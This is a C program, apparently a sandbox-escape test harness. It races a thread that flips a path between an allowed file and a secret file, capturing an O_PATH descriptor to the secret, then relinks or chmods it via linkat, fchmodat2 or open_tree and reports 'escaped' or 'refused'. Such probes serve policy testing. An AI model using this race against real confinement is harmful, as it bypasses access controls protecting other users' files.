/* An O_PATH descriptor of DIR/secret used as a path base. usage: opath_use ATTACK DIR learn|secret
   The descriptor comes from a raced O_PATH open (a thread flips the path between
   DIR/allowed and DIR/secret; O_PATH opens are continued after their check) or, for
   open_tree, from open_tree(2) itself. Then:
     linkat     linkat(fd, "", AT_FDCWD, DIR/y, AT_EMPTY_PATH): a new name for the file
     fchmodat2  fchmodat2(fd, "", 0644, AT_EMPTY_PATH)
     open_tree  open_tree(DIR/secret), then the linkat above
   Prints "escaped" (the call worked on the secret), "refused", or "no-fd". "learn" does
   the same on DIR/allowed without a race. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char allowed[300], secret[300], shared[300];
static atomic_int stop, flips;

static void *flip(void *arg) {
    while (!atomic_load(&stop)) {
        strcpy(shared, secret);
        __asm__ volatile("" ::: "memory");
        for (volatile int i = 0; i < 200; i++) {}
        strcpy(shared, allowed);
        __asm__ volatile("" ::: "memory");
        for (volatile int i = 0; i < 200; i++) {}
        atomic_fetch_add(&flips, 1);
    }
    return arg;
}

int main(int argc, char **argv) {
    if (argc < 4) { fprintf(stderr, "usage: opath_use ATTACK DIR learn|secret\n"); return 2; }
    const char *attack = argv[1];
    int learn = !strcmp(argv[3], "learn");
    char y[300];
    snprintf(allowed, sizeof allowed, "%s/allowed", argv[2]);
    snprintf(secret, sizeof secret, "%s/secret", argv[2]);
    snprintf(y, sizeof y, "%s/y", argv[2]);
    int fd = -1;
    if (!strcmp(attack, "open_tree")) {
        fd = syscall(428, AT_FDCWD, learn ? allowed : secret, O_CLOEXEC /* OPEN_TREE_CLOEXEC */);
    } else if (learn) {
        fd = open(allowed, O_PATH);
    } else {
        struct stat a;
        syscall(SYS_stat, allowed, &a);
        strcpy(shared, allowed);
        pthread_t t;
        pthread_create(&t, NULL, flip, NULL);
        while (atomic_load(&flips) < 10) {}
        for (int i = 0; i < 5000 && fd < 0; i++) {
            int f = open(shared, O_PATH);
            struct stat st;
            /* the fstat system call itself: metadata of a descriptor, which a policy may grant */
            if (f >= 0 && syscall(SYS_fstat, f, &st) == 0 && st.st_ino != a.st_ino) fd = f;  /* the secret */
            else if (f >= 0) close(f);
        }
        atomic_store(&stop, 1);
        pthread_join(t, NULL);
    }
    if (fd < 0) { puts(learn || !strcmp(attack, "open_tree") ? "refused" : "no-fd"); return 0; }
    int r;
    if (!strcmp(attack, "fchmodat2")) r = syscall(452, fd, "", 0644, AT_EMPTY_PATH);
    else r = linkat(fd, "", AT_FDCWD, y, AT_EMPTY_PATH);
    puts(r == 0 ? "escaped" : "refused");
    return 0;
}
